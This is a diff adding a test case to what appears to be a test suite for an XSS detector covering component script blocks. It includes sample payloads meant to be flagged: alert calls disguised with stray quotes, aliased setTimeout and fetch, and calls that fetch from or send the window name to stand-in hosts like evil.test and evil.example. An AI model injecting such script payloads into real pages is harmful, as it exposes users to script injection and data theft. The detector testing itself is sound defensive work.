@@ -667,3 +667,22 @@ t.test("(fifty-ninth round's review, Chromium) a module script set aside only wh
   // still a page's own: an export first, an import first, a component's handler declared
   for (const v of ['<script lang="ts" context="module">\n  export const prerender = true;\n</script>\n', "<script>\nimport x from 'y'\nconst a = 1\n</script>\n", '<script setup>\nconst onload = () => {}\nconst a = 1\n</script>\n']) t.same(json({ snippet: v }), [], v.slice(0, 60))
 })
+
+t.test("(fifty-ninth round's second review, Chromium) quotes that start no string; a fetching global named as a value; another origin's address in a constructor; a component's own open(), Audio and EventSource", async (t) => {
+  for (const v of [
+    "<script setup>\nconst r = /'/; alert(1); const s = /'/\n</script>\n",
+    "<script setup>\nconst a = 1 /* ' */; alert(2) /* ' */\n</script>\n",
+    "<script setup>\nconst t = setTimeout\nt('alert(4)')\n</script>\n",
+    "<script setup>\nconst f = fetch\nf('//evil.test/5')\n</script>\n",
+    "<script setup>\nconst a = 1\nnew FontFace('x', 'url(//evil.test/8)').load()\n</script>\n",
+    '<script>\nconst a = 1\nopen("//evil.example/?"+escape(name))\n</script>\n',
+  ]) t.ok(json({ snippet: v }).includes('xss'), v.slice(0, 70))
+  for (const v of [
+    '<script setup>\nconst audio = new Audio(props.src)\nconst play = () => audio.play()\n</script>\n',
+    "<script setup>\nimport { useFileDialog } from '@vueuse/core'\nconst { files, open, reset } = useFileDialog({ accept: 'image/*' })\nconst pick = () => open()\n</script>\n",
+    "<script setup>\nimport { ref } from 'vue'\nconst visible = ref(false)\nfunction open() { visible.value = true }\ndefineExpose({ open })\n</script>\n",
+    "<script setup>\nimport { onMounted } from 'vue'\nonMounted(() => {\n  const source = new EventSource('/api/stream')\n})\n</script>\n",
+    "<script setup>\nconst label = 'Please confirm (this)'\nconst x = ref('alert')\n</script>\n",
+  ]) t.same(json({ snippet: v }), [], v.slice(0, 70))
+  for (const v of ["To list tables, query information\\_schema.tables where table\\_schema = 'public'.", "select table_name from information\\_schema.tables where table_schema = 'public'"]) t.same(q(v), [], v)
+})
